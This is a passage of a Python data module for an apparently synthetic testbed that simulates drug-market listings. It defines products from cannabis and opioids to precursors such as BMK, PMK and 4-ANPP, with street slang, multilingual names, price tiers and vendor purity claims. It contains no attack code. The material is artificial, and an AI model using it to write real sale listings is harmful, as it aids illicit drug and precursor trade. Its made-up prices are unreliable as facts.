"""The testbed's own vocabulary: products, slang, misspellings, foreign names, places, handles, style.

Written for the testbed (not copied from any dataset). Each product maps to canonical substance ids of
extractors/data/canonical.csv; `group` is the market-independent shelf that every market names its own way.
"""

from __future__ import annotations

from dataclasses import dataclass, field

LANGS = ("en", "fr", "es", "de", "nl")


@dataclass(frozen=True)
class Product:
    key: str
    substances: tuple[str, ...]
    category: str
    group: str
    names: tuple[str, ...]
    slang: tuple[str, ...]  # street names and misspellings seen in titles
    intl: dict[str, tuple[str, ...]] = field(default_factory=dict)
    unit: str = "g"
    tiers: tuple[float, ...] = (1, 3.5, 7, 14, 28)
    usd: float = 10.0  # price of one unit at the smallest tier
    extras: tuple[str, ...] = ()  # strength, form or origin words


def _p(key: str, subs: str, cat: str, group: str, names: str, slang: str, intl: str, unit: str,
       tiers: tuple[float, ...], usd: float, extras: str = "") -> Product:
    langs: dict[str, tuple[str, ...]] = {}
    for part in filter(None, intl.split(";")):
        lang, words = part.split(":", 1)
        langs[lang.strip()] = tuple(w.strip() for w in words.split(","))
    def split(s):
        return (tuple(x.strip() for x in s.split("|") if x.strip()))
    return Product(key, tuple(subs.split()), cat, group, split(names), split(slang), langs, unit, tiers, usd,
                   split(extras))


HERB = (1, 3.5, 7, 14, 28)
POWDER = (1, 2, 5, 10, 28)
BULK = (10, 25, 50, 100)
PILLS = (10, 25, 50, 100)
TABS = (5, 10, 25, 100)
KG = (1, 5, 25)
LITRE = (1, 5, 20)
VIALS = (1, 5, 10)

PRODUCTS: tuple[Product, ...] = (
    # cannabis
    _p("weed", "cannabis", "cannabis", "weed", "Amnesia Haze|OG Kush|White Widow|Gorilla Glue #4|Lemon Haze|Gelato 33|Girl Scout Cookies|Northern Lights|Super Silver Haze",
       "weed|bud|kush|loud|dank|zaza|ganja|canabis|weeed", "fr:herbe,beuh;es:marihuana,cogollos,hierba;de:Gras,Blüten,Weed;nl:wiet,toppen", "g", HERB, 10, "indoor|outdoor|greenhouse|AAA+|top shelf|organic"),
    _p("hash", "hashish", "cannabis", "hash", "Moroccan Hash|Afghan Black|Charas|Dry Sift|Lebanese Blonde|Static Hash|Ketama Gold",
       "hash|hasch|shit|haschisch|hashis|dry sift|polm", "fr:shit,hasch,résine;es:hachís,chocolate,costo;de:Haschisch,Piece,Dope;nl:hasj", "g", HERB, 9, "double zero|00|pollen|premium|fresh"),
    _p("wax", "cannabis-concentrate", "cannabis", "conc", "Shatter|Live Resin|BHO Wax|Rosin|THC Distillate|Budder|Crumble",
       "dabs|shatter|wax|bho|rosin|710", "fr:wax,concentré;es:cera,resina viva;de:Wachs,Konzentrat;nl:wax,concentraat", "g", (1, 2, 5, 10), 35, "90% THC|full spectrum|clear|golden"),
    _p("edible", "cannabis-edible", "cannabis", "edibles", "THC Gummies|Space Cookies|Cannabis Chocolate Bar|THC Brownies|Weed Lollipops",
       "edibles|gummies|space cake|canna candy", "fr:space cake,bonbons THC;es:gominolas THC,brownie;de:Space Kekse,THC Fruchtgummis;nl:spacecake,wietsnoepjes", "pcs", (5, 10, 20, 50), 4, "10mg THC each|25mg|50mg|vegan"),
    _p("seeds", "cannabis-seeds", "cannabis", "seeds", "Feminized Seeds|Autoflower Seeds|Regular Seeds",
       "seeds|fem seeds|autos|beans", "fr:graines;es:semillas;de:Samen;nl:zaden", "seeds", (3, 5, 10, 25), 8, "Gelato|Zkittlez|Blue Dream|Critical"),
    # stimulants
    _p("coke", "cocaine", "stimulants", "cocaine", "Cocaine|Peruvian Cocaine|Colombian Cocaine|Bolivian Flake|Fishscale Cocaine",
       "coke|charlie|snow|blow|coca|yayo|cocain|cocaïne|kokain|cocaina|fishscale|flake", "fr:cocaïne,coke,C;es:cocaína,farlopa,perico;de:Kokain,Koks,Schnee;nl:cocaïne,coke,sneeuw", "g", POWDER, 80, "90%|92% pure|uncut|lab tested|first hand|straight off the brick|rocks"),
    _p("crack", "crack-cocaine", "stimulants", "cocaine", "Crack Cocaine|Crack Rocks|Freebase",
       "crack|rock|base|hard|kraak", "fr:crack,caillou;es:crack,base;de:Crack,Steine;nl:crack,base", "g", (0.5, 1, 3.5, 7), 90, "ready rock|cooked fresh"),
    _p("speed", "amphetamine", "stimulants", "speed", "Amphetamine Paste|Speed Paste|Amphetamine Sulphate|Pink Speed",
       "speed|pep|paste|amfetamine|amphet|whizz|phet|amph", "fr:speed,amphétamine;es:speed,anfeta;de:Speed,Pep,Amphetamin;nl:speed,pep", "g", BULK, 5, "65%|wet paste|dry|base oil"),
    _p("meth", "methamphetamine", "stimulants", "meth", "Crystal Meth|Methamphetamine|Ice Shards|Tina",
       "meth|ice|crystal|shards|tina|methamfetamine|glass|pervitin", "fr:méthamphétamine,crystal;es:metanfetamina,cristal;de:Crystal,Meth,Pervitin;nl:crystal meth,ijs", "g", POWDER, 60, "glass shards|d-meth|99%"),
    _p("ritalin", "methylphenidate", "stimulants", "rxstim", "Ritalin 10mg|Methylphenidate 20mg|Concerta 36mg",
       "ritalin|ritalina|rits|methylphenidat", "fr:ritaline;es:ritalina;de:Ritalin,Medikinet;nl:ritalin", "pills", PILLS, 4, "Novartis|blister"),
    _p("adderall", "dextroamphetamine", "stimulants", "rxstim", "Adderall 30mg|Adderall XR 20mg|Dexedrine 10mg",
       "addies|adderal|aderall|orange 30s", "fr:adderall;es:adderall;de:Adderall;nl:adderall", "pills", PILLS, 6, "pharma grade|US pharma"),
    _p("modafinil", "modafinil", "stimulants", "rxstim", "Modafinil 200mg|Modalert 200|Armodafinil 150mg",
       "moda|modalert|modvigil|provigil", "fr:modafinil;es:modafinilo;de:Modafinil;nl:modafinil", "pills", (10, 30, 60, 100), 1.5, "Sun Pharma|study aid"),
    # ecstasy
    _p("mdma", "mdma", "ecstasy", "mdma", "MDMA Crystal|MDMA Champagne|MDMA Powder|Molly",
       "molly|mandy|md|emma|crystal|champagne|mdma crystals|mdmaa", "fr:MDMA,cristaux,MD;es:MDMA,cristal,mandanga;de:MDMA,Kristalle,Emma;nl:MDMA,kristallen", "g", (1, 2, 5, 10, 25), 35, "84%|rocks|brown champagne"),
    _p("xtc", "mdma", "ecstasy", "pills_xtc", "Blue Punisher|Tesla|Red Bull|Philipp Plein|Rolex|Donkey Kong|Pink Superman|Heisenberg",
       "xtc|ecstasy|e pills|beans|pingers|pills|extasy|xtasy|éxtasis", "fr:ecstas,taz,cachets;es:pastis,éxtasis,pirulas;de:Ecstasy,Teile,Pillen,XTC;nl:xtc,pillen,pillies", "pills", (10, 25, 50, 100, 500), 8, "250mg|280mg|300mg MDMA|high dose|lab tested"),
    _p("mda", "mda", "ecstasy", "mdma", "MDA Crystal|Sassy (MDA)|MDA Powder",
       "sass|sassy|mda", "fr:MDA;es:MDA;de:MDA;nl:MDA", "g", (1, 2, 5, 10), 40, "high purity"),
    # psychedelics
    _p("lsd", "lsd", "psychedelics", "lsd", "LSD Blotters|LSD Tabs|Hofmann Blotter|LSD Liquid Drops",
       "acid|tabs|blotter|lucy|lsd25|l.s.d|trips|tickets|cartons", "fr:buvards,acide,LSD;es:tripis,ácidos,micros;de:Pappen,Trips,LSD;nl:LSD,tripjes", "tabs", TABS, 9, "150ug|200µg|100mcg|needlepoint|Alex Grey art"),
    _p("shrooms", "psilocybin", "psychedelics", "shrooms", "Golden Teacher|Penis Envy|B+ Mushrooms|Psilocybe Cubensis|Magic Truffles",
       "shrooms|boomers|mushies|cubes|psilocybe|psylocibin|magic mushrooms", "fr:champis,champignons magiques;es:setas,hongos mágicos;de:Pilze,Zauberpilze;nl:paddo's,truffels", "g", (3.5, 7, 14, 28, 100), 10, "dried|cracker dry|potent"),
    _p("dmt", "dmt", "psychedelics", "dmt", "N,N-DMT Crystal|DMT Freebase|Changa 25%",
       "dmt|spirit molecule|deemz|dimitri|changa", "fr:DMT;es:DMT;de:DMT;nl:DMT", "g", (0.5, 1, 2, 5), 90, "MHRB extract|yellow crystals"),
    _p("5meo", "5-meo-dmt", "psychedelics", "psy_other", "5-MeO-DMT|5-MeO Crystal",
       "5meo|5-meo|toad|bufo", "fr:5-MeO-DMT;es:5-MeO-DMT,bufo;de:5-MeO-DMT;nl:5-MeO-DMT", "g", (0.25, 0.5, 1), 150, "synthetic|99%"),
    _p("mescaline", "mescaline", "psychedelics", "psy_other", "Mescaline HCl|San Pedro Powder|Peyote Buttons",
       "mesc|mescalin|san pedro|peyote", "fr:mescaline;es:mescalina,peyote;de:Meskalin;nl:mescaline", "g", (0.5, 1, 2, 5), 25, "extract|sulfate"),
    _p("2cb", "2c-b", "psychedelics", "2cx", "2C-B Pills 20mg|2C-B HCl Powder|Tucibi",
       "2cb|2-cb|nexus|tucibi|tusi|bees", "fr:2C-B;es:2C-B,tucibi;de:2C-B;nl:2C-B", "pills", PILLS, 12, "20mg|25mg|pink"),
    _p("2cx", "2c-other", "psychedelics", "2cx", "2C-E Powder|2C-I HCl|2C-P Caps",
       "2ce|2c-i|2cp", "fr:2C-E;es:2C-I;de:2C-E;nl:2C-P", "g", (0.5, 1, 2), 45, "research only"),
    _p("nbome", "25i-nbome", "psychedelics", "lsd", "25I-NBOMe Blotters|25C-NBOMe Tabs|NBOMe Blotters",
       "n-bomb|nbome|25i|25c|smiles", "fr:NBOMe;es:NBOMe;de:NBOMe;nl:NBOMe", "tabs", TABS, 5, "1000mcg|800ug"),
    _p("salvia", "salvia", "psychedelics", "psy_other", "Salvia Divinorum 20x Extract|Salvia Leaves",
       "salvia|sally-d|diviner's sage", "fr:sauge divinatoire;es:salvia;de:Azteken-Salbei;nl:salvia", "g", (1, 5, 10), 20, "20x|40x"),
    _p("lsa", "lsa", "psychedelics", "psy_other", "Hawaiian Baby Woodrose Seeds|Morning Glory Seeds (LSA)",
       "lsa|hbwr|woodrose|ergine", "fr:graines de LSA;es:semillas LSA;de:LSA Samen;nl:LSA zaden", "seeds", (10, 25, 50, 100), 1, "fresh harvest"),
    # opioids
    _p("heroin", "heroin", "opioids", "heroin", "Afghan Heroin|Heroin No.4|Brown Heroin|Black Tar",
       "h|dope|smack|brown|tar|boy|heroine|h3roin|gear", "fr:héroïne,brune,came;es:heroína,caballo,jaco;de:Heroin,Braunes,H;nl:heroïne,bruin", "g", (0.5, 1, 5, 10), 90, "#4|white|70%"),
    _p("fent", "fentanyl", "opioids", "fent", "Fentanyl HCl|Fentanyl Powder|M30 Blues (pressed)|China White",
       "fent|fetty|blues|m30|china white|fentanil|fentanyl hcl|perc 30", "fr:fentanyl;es:fentanilo;de:Fentanyl;nl:fentanyl", "g", (0.1, 0.5, 1), 300, "pressed|pharma look"),
    _p("carf", "carfentanil", "opioids", "fent", "Carfentanil|Carfentanyl 1%",
       "carfent|carfentanyl|c-fent", "fr:carfentanil;es:carfentanilo;de:Carfentanil;nl:carfentanil", "g", (0.1, 0.5, 1), 400, "diluted"),
    _p("oxy", "oxycodone", "opioids", "rxopi", "Oxycodone 30mg|OxyContin 80mg|Percocet 10/325|Roxicodone 15mg",
       "oxy|oxys|roxy|oxies|oxicodone|percs|oc 80", "fr:oxycodone;es:oxicodona;de:Oxycodon,Oxygesic;nl:oxycodon,oxycontin", "pills", PILLS, 25, "Mallinckrodt|Purdue|blister"),
    _p("hydro", "hydrocodone", "opioids", "rxopi", "Hydrocodone 10/325|Norco 10mg|Vicodin",
       "hydros|norcos|vikes|hydrocodon", "fr:hydrocodone;es:hidrocodona;de:Hydrocodon;nl:hydrocodon", "pills", PILLS, 12, "Watson"),
    _p("morphine", "morphine", "opioids", "rxopi", "Morphine Sulfate 60mg|MST Continus 100mg|Morphine Ampoules",
       "morph|morphin|mst|miss emma", "fr:morphine;es:morfina;de:Morphin;nl:morfine", "pills", PILLS, 15, "slow release"),
    _p("codeine", "codeine", "opioids", "rxopi", "Codeine Phosphate 30mg|Codeine Linctus|Promethazine Codeine Syrup",
       "lean|purple drank|sizzurp|codein|codiene", "fr:codéine;es:codeína;de:Codein;nl:codeïne", "pills", PILLS, 3, "30mg|60mg"),
    _p("tramadol", "tramadol", "opioids", "rxopi", "Tramadol 100mg|Tramadol 225mg|Ultram 50mg",
       "trams|tramal|tramadolo|tramadal|tapentadol-ish", "fr:tramadol;es:tramadol;de:Tramadol,Tramal;nl:tramadol", "pills", (20, 50, 100, 200), 2, "Tapal|Indian pharma"),
    _p("bupe", "buprenorphine", "opioids", "rxopi", "Suboxone 8mg Strips|Subutex 8mg|Buprenorphine 2mg",
       "subs|sub strips|bupe|subutex|suboxon", "fr:subutex,buprénorphine;es:buprenorfina;de:Subutex,Buprenorphin;nl:buprenorfine", "strips", (5, 10, 30), 20, "orange strips"),
    _p("methadone", "methadone", "opioids", "rxopi", "Methadone 10mg|Methadone Liquid 100ml|Dolophine",
       "done|meth-a-done|metadon|methadon", "fr:méthadone;es:metadona;de:Methadon,Polamidon;nl:methadon", "pills", PILLS, 4, "pharma"),
    _p("opium", "opium", "opioids", "opium", "Afghan Opium|Raw Opium Gum|Poppy Pods",
       "op|o|black|tar gum|opio", "fr:opium;es:opio;de:Opium,Mohnkapseln;nl:opium", "g", (1, 5, 10, 28), 30, "sticky|aged"),
    _p("nitazene", "nitazene", "opioids", "fent", "Isotonitazene|Protonitazene|Metonitazene",
       "iso|nitazene|nitazine|niazenes|proto", "fr:nitazène;es:nitaceno;de:Nitazen;nl:nitazeen", "g", (0.1, 0.5, 1), 120, "research only"),
    # benzodiazepines
    _p("xanax", "alprazolam", "benzodiazepines", "xanax", "Xanax 2mg Bars|Alprazolam 1mg|Xanax XR 1mg|Green Hulk Bars",
       "bars|xannies|zannies|xans|handlebars|xanax bars|xannax|alprazolan", "fr:xanax,alprazolam;es:xanax,alprazolam;de:Xanax,Tafil;nl:xanax", "pills", PILLS, 3, "Pfizer|2mg|S 90 3"),
    _p("valium", "diazepam", "benzodiazepines", "benzo", "Valium 10mg|Diazepam 10mg|Roche Valium 5mg",
       "vals|blues|valum|diazapam|diazepan", "fr:valium,diazépam;es:valium,diazepam;de:Valium,Diazepam;nl:valium,diazepam", "pills", PILLS, 1.5, "Roche|Teva"),
    _p("klonopin", "clonazepam", "benzodiazepines", "benzo", "Clonazepam 2mg|Rivotril 2mg|Klonopin 1mg",
       "kpins|klons|rivo|clonazepan", "fr:rivotril,clonazépam;es:rivotril,clonazepam;de:Rivotril,Clonazepam;nl:rivotril", "pills", PILLS, 2, "Roche"),
    _p("ativan", "lorazepam", "benzodiazepines", "benzo", "Lorazepam 2.5mg|Ativan 2mg|Tavor 2.5mg",
       "ativan|lorries|loraz|lorazepan", "fr:témesta,lorazépam;es:orfidal,lorazepam;de:Tavor,Lorazepam;nl:lorazepam", "pills", PILLS, 2, "Pfizer"),
    _p("etizolam", "etizolam", "benzodiazepines", "rcbenzo", "Etizolam 1mg|Etizest 1mg|Etizolam Pellets",
       "etiz|etizzy|etilaam|etizolan", "fr:étizolam;es:etizolam;de:Etizolam;nl:etizolam", "pills", (20, 50, 100, 500), 0.8, "Indian pharma|pellets"),
    _p("flualp", "flualprazolam", "benzodiazepines", "rcbenzo", "Flualprazolam 0.5mg|Flualp Blotters",
       "flualp|flualpra|flualprazolan", "fr:flualprazolam;es:flualprazolam;de:Flualprazolam;nl:flualprazolam", "pills", (20, 50, 100), 1.0, "RC|blotters"),
    _p("bromaz", "bromazolam", "benzodiazepines", "rcbenzo", "Bromazolam 1mg|Bromazolam Pellets 0.5mg",
       "broma|bromazolan|bromo", "fr:bromazolam;es:bromazolam;de:Bromazolam;nl:bromazolam", "pills", (20, 50, 100, 500), 1.0, "RC|pellets"),
    # prescription
    _p("viagra", "sildenafil", "prescription", "ed", "Viagra 100mg|Sildenafil 100mg|Kamagra Oral Jelly",
       "blue pills|kamagra|viagara|sildenafill", "fr:viagra,sildénafil;es:viagra,sildenafilo;de:Viagra,Kamagra;nl:viagra,kamagra", "pills", (10, 20, 50, 100), 1.0, "Ajanta|Pfizer"),
    _p("cialis", "tadalafil", "prescription", "ed", "Cialis 20mg|Tadalafil 20mg|Tadalis SX",
       "cialys|tadalafill|weekend pill", "fr:cialis,tadalafil;es:cialis,tadalafilo;de:Cialis,Tadalafil;nl:cialis", "pills", (10, 20, 50, 100), 1.2, "Lilly|generic"),
    _p("zolpidem", "zolpidem", "prescription", "sleep", "Zolpidem 10mg|Stilnox 10mg|Ambien 10mg",
       "ambien|zolpi|z-drug|zolpidim", "fr:stilnox,zolpidem;es:zolpidem,stilnox;de:Zolpidem,Stilnox;nl:zolpidem", "pills", PILLS, 2, "Sanofi"),
    _p("lyrica", "pregabalin", "prescription", "nerve", "Pregabalin 300mg|Lyrica 150mg",
       "lyrica|pregs|budz|pregablin|pregabaline", "fr:lyrica,prégabaline;es:lyrica,pregabalina;de:Lyrica,Pregabalin;nl:lyrica,pregabaline", "pills", (20, 50, 100, 200), 1.0, "Pfizer|Maxgalin"),
    _p("gaba", "gabapentin", "prescription", "nerve", "Gabapentin 600mg|Neurontin 800mg",
       "gabbies|johnnies|neurontin|gabapentine", "fr:neurontin,gabapentine;es:gabapentina;de:Gabapentin;nl:gabapentine", "pills", (20, 50, 100, 200), 0.8, "Pfizer"),
    # dissociatives
    _p("ket", "ketamine", "dissociatives", "ketamine", "Ketamine Crystal|S-Ketamine|Ketamine Needles|Ketamine Shards",
       "ket|k|special k|kitty|keta|ketamin|ketamina|ketamien|vitamin k|shards", "fr:kétamine,ké,kéta;es:ketamina,keta,kit kat;de:Ketamin,Keta;nl:ketamine,keta", "g", (1, 2, 5, 10, 25), 35, "needle shards|rocks|99%|hospital grade"),
    _p("mxe", "methoxetamine", "dissociatives", "diss_other", "Methoxetamine (MXE)|MXE Powder",
       "mxe|mexxy|methoxetamin", "fr:MXE;es:MXE;de:MXE;nl:MXE", "g", (0.5, 1, 2, 5), 50, "research grade"),
    _p("pcp", "pcp", "dissociatives", "diss_other", "PCP Powder|Angel Dust|PCP Liquid",
       "angel dust|wet|sherm|phencyclidine", "fr:PCP,poussière d'ange;es:polvo de ángel;de:Angel Dust,PCP;nl:PCP", "g", (0.5, 1, 2), 60, "crystal"),
    _p("ghb", "ghb", "dissociatives", "ghb", "GHB Liquid|Sodium Oxybate|GHB Powder",
       "g|gina|liquid ecstasy|gbh|xyrem|g-juice", "fr:GHB,G;es:GHB,éxtasis líquido;de:GHB,Liquid Ecstasy;nl:GHB,G", "ml", (100, 250, 500, 1000), 0.25, "pure|pharma"),
    _p("dxm", "dxm", "dissociatives", "diss_other", "DXM 30mg Tabs|Dextromethorphan Powder",
       "dex|robo|triple c|dxm hbr", "fr:DXM;es:DXM;de:DXM;nl:DXM", "pills", (20, 50, 100), 0.6, "HBr"),
    # doping
    _p("testo", "testosterone", "doping", "inject", "Testosterone Enanthate 250mg/ml|Testosterone Cypionate 200|Sustanon 250|Test Prop 100",
       "test e|test cyp|sust|sustanon|testo|testosteron|testosteron enanthat", "fr:testostérone;es:testosterona;de:Testosteron,Testo;nl:testosteron", "vials", VIALS, 45, "10ml|UGL|pharma grade"),
    _p("deca", "nandrolone", "doping", "inject", "Nandrolone Decanoate 300|Deca-Durabolin|NPP 100",
       "deca|npp|nandro|nandrolon", "fr:déca,nandrolone;es:deca,nandrolona;de:Deca,Nandrolon;nl:deca", "vials", VIALS, 55, "10ml|Organon"),
    _p("tren", "trenbolone", "doping", "inject", "Trenbolone Acetate 100|Tren Enanthate 200|Parabolan",
       "tren|tren a|tren e|trenbolon|trembolone", "fr:trenbolone;es:trembolona;de:Trenbolon;nl:trenbolon", "vials", VIALS, 65, "10ml"),
    _p("winny", "stanozolol", "doping", "orals", "Winstrol 10mg|Stanozolol 50mg|Winny Depot",
       "winny|winni|stanozolol|winstrol depot", "fr:winstrol,stanozolol;es:winstrol,estanozolol;de:Winstrol,Stanozolol;nl:winstrol", "pills", (50, 100, 200), 0.5, "Desma|100 tabs"),
    _p("anavar", "oxandrolone", "doping", "orals", "Anavar 10mg|Oxandrolone 10mg",
       "var|anavarr|oxandrolon|oxandro", "fr:anavar;es:anavar,oxandrolona;de:Anavar,Oxandrolon;nl:anavar", "pills", (50, 100, 200), 1.0, "Balkan"),
    _p("dbol", "methandienone", "doping", "orals", "Dianabol 10mg|Methandienone 20mg|D-Bol",
       "dbol|d-bol|dianabol|metandienon|danabol", "fr:dianabol;es:dianabol;de:Dianabol,Metandienon;nl:dianabol", "pills", (50, 100, 200), 0.3, "Thai|pink pills"),
    _p("eq", "boldenone", "doping", "inject", "Boldenone Undecylenate 300|Equipoise",
       "eq|equipoise|boldenon|bold", "fr:boldénone;es:boldenona;de:Boldenon;nl:boldenon", "vials", VIALS, 50, "10ml"),
    _p("clen", "clenbuterol", "doping", "orals", "Clenbuterol 40mcg|Spiropent 20mcg|Clen",
       "clen|clenbuterol|klenbuterol|clenbuterole", "fr:clenbutérol;es:clembuterol;de:Clenbuterol;nl:clenbuterol", "pills", (50, 100, 200), 0.4, "fat burner"),
    _p("hgh", "hgh", "doping", "peptides", "HGH 100iu Kit|Somatropin 10iu Pens|Norditropin",
       "hgh|growth|gh|somatropin|jintropin|hgh kit", "fr:hormone de croissance;es:hormona de crecimiento;de:Wachstumshormon,HGH;nl:groeihormoon", "kits", (1, 2, 5), 220, "191aa|pharma"),
    _p("epo", "epo", "doping", "peptides", "EPO 4000IU|Erythropoietin|Eprex 10000",
       "epo|eprex|erythropoetin", "fr:EPO,érythropoïétine;es:EPO,eritropoyetina;de:EPO,Erythropoetin;nl:EPO", "vials", (1, 5, 10), 60, "cold chain"),
    _p("sarms", "sarms", "doping", "peptides", "Ostarine MK-2866|Ligandrol LGD-4033|RAD-140 Testolone|SARMs Stack",
       "sarms|ostarine|lgd|rad140|rad-140|ostarin", "fr:SARMs;es:SARMs;de:SARMs;nl:SARMs", "bottles", (1, 3, 5), 45, "60 caps|10mg/caps"),
    # nps
    _p("meph", "mephedrone", "nps", "cath", "Mephedrone (4-MMC)|4-MMC Crystal|Meow Meow",
       "meow|meph|m-cat|4mmc|bubbles|drone|mefedron|miaow", "fr:méphédrone,4-MMC;es:mefedrona,miau;de:Mephedron,4-MMC;nl:mephedron", "g", (1, 5, 10, 25, 100), 20, "crystal|chunks"),
    _p("3mmc", "3-mmc", "nps", "cath", "3-MMC Crystal|3MMC Chunks",
       "3mmc|3-mmc|metaphedrone|3mcc", "fr:3-MMC,3M;es:3-MMC;de:3-MMC;nl:3-MMC,3M", "g", (1, 5, 10, 25, 100), 18, "HCl|large crystals"),
    _p("methylone", "methylone", "nps", "cath", "Methylone Crystal|bk-MDMA",
       "bk-mdma|m1|methylon", "fr:méthylone;es:metilona;de:Methylon;nl:methylon", "g", (1, 5, 10, 25), 25, "crystal"),
    _p("apvp", "a-pvp", "nps", "cath", "alpha-PVP Crystal|Flakka|a-PVP",
       "flakka|gravel|apvp|alpha pvp|a-pvp", "fr:alpha-PVP;es:flakka;de:Flakka,alpha-PVP;nl:flakka", "g", (1, 5, 10), 30, "shards"),
    _p("spice", "synthetic-cannabinoid", "nps", "synth", "Spice (5F-ADB)|MDMB-4en-PINACA|Synthetic Cannabinoid Blend|JWH-018",
       "spice|k2|mamba|5f-adb|jwh|4f-mdmb|kräuter", "fr:spice,cannabinoïde de synthèse;es:spice,cannabinoide sintético;de:Spice,Kräutermischung;nl:spice", "g", (1, 5, 10, 25), 25, "sprayed|pure powder"),
    _p("4fa", "4-fa", "nps", "rc_other", "4-FA Crystal|4-FMP Pills 100mg",
       "4fa|4-fmp|4-flu|flux", "fr:4-FA;es:4-FA;de:4-FA;nl:4-FA,4-FMP", "g", (1, 5, 10), 20, "HCl"),
    _p("2fdck", "2-fdck", "nps", "rc_other", "2-FDCK Crystal|Fluoroketamine",
       "2fdck|2-fdck|fluoroketamine|fdck", "fr:2-FDCK;es:2-FDCK;de:2-FDCK;nl:2-FDCK", "g", (1, 5, 10), 25, "crystals"),
    # precursors
    _p("ephedrine", "ephedrine", "precursors", "precursors", "Ephedrine HCl|Ephedrine Powder 99%",
       "ephedrin|efedrina|ephe|ephedrine hcl", "fr:éphédrine;es:efedrina;de:Ephedrin;nl:efedrine", "kg", KG, 400, "99%|pharma grade|bulk"),
    _p("pse", "pseudoephedrine", "precursors", "precursors", "Pseudoephedrine HCl|Pseudo Powder",
       "pseudo|pse|pseudoefedrina|pseudoephedrin", "fr:pseudoéphédrine;es:pseudoefedrina;de:Pseudoephedrin;nl:pseudo-efedrine", "kg", KG, 500, "bulk|from India"),
    _p("bmk", "bmk", "precursors", "precursors", "BMK Glycidate|BMK Oil|P2P (Phenylacetone)|BMK Powder CAS 5413-05-8",
       "bmk|p2p|bmk glycidate|phenylaceton|bmk oil", "fr:BMK;es:BMK,fenilacetona;de:BMK,Phenylaceton;nl:BMK,BMK-olie", "kg", KG, 900, "CAS 5413-05-8|high yield|98%"),
    _p("pmk", "pmk", "precursors", "precursors", "PMK Glycidate|PMK Oil|PMK Powder CAS 28578-16-7",
       "pmk|pmk glycidate|pmk oil|piperonylmethylketone", "fr:PMK;es:PMK;de:PMK;nl:PMK,PMK-olie", "kg", KG, 1000, "CAS 28578-16-7|high conversion"),
    _p("safrole", "safrole", "precursors", "solvents", "Safrole Oil|Sassafras Oil",
       "safrol|sassafras|safrole oil", "fr:safrole;es:safrol;de:Safrol;nl:safrol", "L", LITRE, 300, "98%"),
    _p("gbl", "gbl", "precursors", "solvents", "GBL (gamma-Butyrolactone)|GBL Wheel Cleaner 99.9%",
       "gbl|gamma butyrolactone|wheel cleaner|g-b-l", "fr:GBL;es:GBL;de:GBL,Felgenreiniger;nl:GBL", "L", LITRE, 60, "99.9%|industrial"),
    _p("bdo", "1-4-butanediol", "precursors", "solvents", "1,4-Butanediol (BDO)|1.4-Butanediol 99%",
       "bdo|1,4-b|butanediol|one four b", "fr:1,4-butanediol;es:1,4-butanodiol;de:1,4-Butandiol;nl:1,4-butaandiol", "L", LITRE, 70, "99%"),
    _p("npp", "npp", "precursors", "precursors", "NPP (N-Phenethyl-4-piperidone)|NPP CAS 39742-60-4",
       "npp|n-phenethyl|phenethylpiperidone", "fr:NPP;es:NPP;de:NPP;nl:NPP", "kg", (1, 5), 2500, "CAS 39742-60-4"),
    _p("anpp", "4-anpp", "precursors", "precursors", "4-ANPP (Despropionyl fentanyl)|4-ANPP CAS 21409-26-7",
       "4anpp|anpp|despropionyl", "fr:4-ANPP;es:4-ANPP;de:4-ANPP;nl:4-ANPP", "kg", (1, 5), 3500, "CAS 21409-26-7"),
    _p("redp", "red-phosphorus", "precursors", "precursors", "Red Phosphorus|Red P Powder",
       "red p|redp|rp|roter phosphor", "fr:phosphore rouge;es:fósforo rojo;de:roter Phosphor;nl:rode fosfor", "kg", KG, 200, "99%"),
    _p("aa", "acetic-anhydride", "precursors", "solvents", "Acetic Anhydride|AA 99%",
       "aa|acetic anhydrid|anhydride|essigsäureanhydrid", "fr:anhydride acétique;es:anhídrido acético;de:Essigsäureanhydrid;nl:azijnzuuranhydride", "L", LITRE, 150, "99%|industrial"),
    # more of the long tail: designer and prescription drugs markets list next to the classics
    _p("vyvanse", "lisdexamfetamine", "stimulants", "rxstim", "Vyvanse 70mg|Elvanse 50mg|Lisdexamfetamine 30mg",
       "vyvs|vyvance|elvanse|lisdex", "fr:vyvanse;es:elvanse;de:Elvanse;nl:elvanse", "pills", PILLS, 7, "Takeda"),
    _p("dilaudid", "hydromorphone", "opioids", "rxopi", "Dilaudid 8mg|Hydromorphone 4mg|Palladone",
       "dillies|d8s|dilaudids|hydromorfon", "fr:hydromorphone;es:hidromorfona;de:Hydromorphon,Palladon;nl:hydromorfon", "pills", PILLS, 18, "Purdue"),
    _p("u47", "u-47700", "opioids", "fent", "U-47700 Powder|U-47700 Pink",
       "pinky|u4|u-4|u47700", "fr:U-47700;es:U-47700;de:U-47700;nl:U-47700", "g", (0.5, 1, 2), 70, "research only"),
    _p("temaz", "temazepam", "benzodiazepines", "benzo", "Temazepam 20mg|Normison 10mg|Restoril 30mg",
       "jellies|eggs|mazzies|temazepan", "fr:témazépam;es:temazepam;de:Temazepam,Remestan;nl:temazepam", "pills", PILLS, 1.5, "softgel"),
    _p("roofies", "flunitrazepam", "benzodiazepines", "benzo", "Rohypnol 1mg|Flunitrazepam 2mg",
       "roofies|rophies|ruffies|flunitrazepan|roche 2", "fr:rohypnol;es:rohypnol,reinas;de:Rohypnol;nl:rohypnol", "pills", PILLS, 3, "Roche"),
    _p("clonazolam", "designer-benzodiazepine", "benzodiazepines", "rcbenzo", "Clonazolam 0.5mg|Flubromazolam Pellets|Diclazepam 1mg|Phenazepam 1mg",
       "clam|clonaz|fluby|dicla|phenaz|rc benzos", "fr:benzo RC;es:benzos de diseño;de:Designer-Benzos;nl:designerbenzo's", "pills", (20, 50, 100, 500), 1.2, "blotter|pellets"),
    _p("zopi", "zopiclone", "prescription", "sleep", "Zopiclone 7.5mg|Imovane 7.5mg|Eszopiclone 3mg",
       "zimmos|zopi|zoppies|zopiclon", "fr:imovane,zopiclone;es:zopiclona;de:Zopiclon;nl:zopiclon", "pills", PILLS, 1.2, "Sanofi"),
    _p("soma", "carisoprodol", "prescription", "nerve", "Soma 350mg|Carisoprodol 500mg",
       "somas|dans|carisoprodal", "fr:carisoprodol;es:carisoprodol;de:Carisoprodol;nl:carisoprodol", "pills", PILLS, 1.0, "Indian pharma"),
    _p("1plsd", "lsd-analogue", "psychedelics", "lsd", "1P-LSD 100mcg Blotters|1cP-LSD Blotters|AL-LAD 100ug|ETH-LAD Tabs",
       "1p|1plsd|1cp|allad|ethlad", "fr:1P-LSD;es:1P-LSD;de:1P-LSD,1cP-LSD;nl:1P-LSD", "tabs", TABS, 6, "legal in some EU"),
    _p("4aco", "tryptamine-rc", "psychedelics", "psy_other", "4-AcO-DMT Fumarate|4-HO-MET Powder|DPT Freebase",
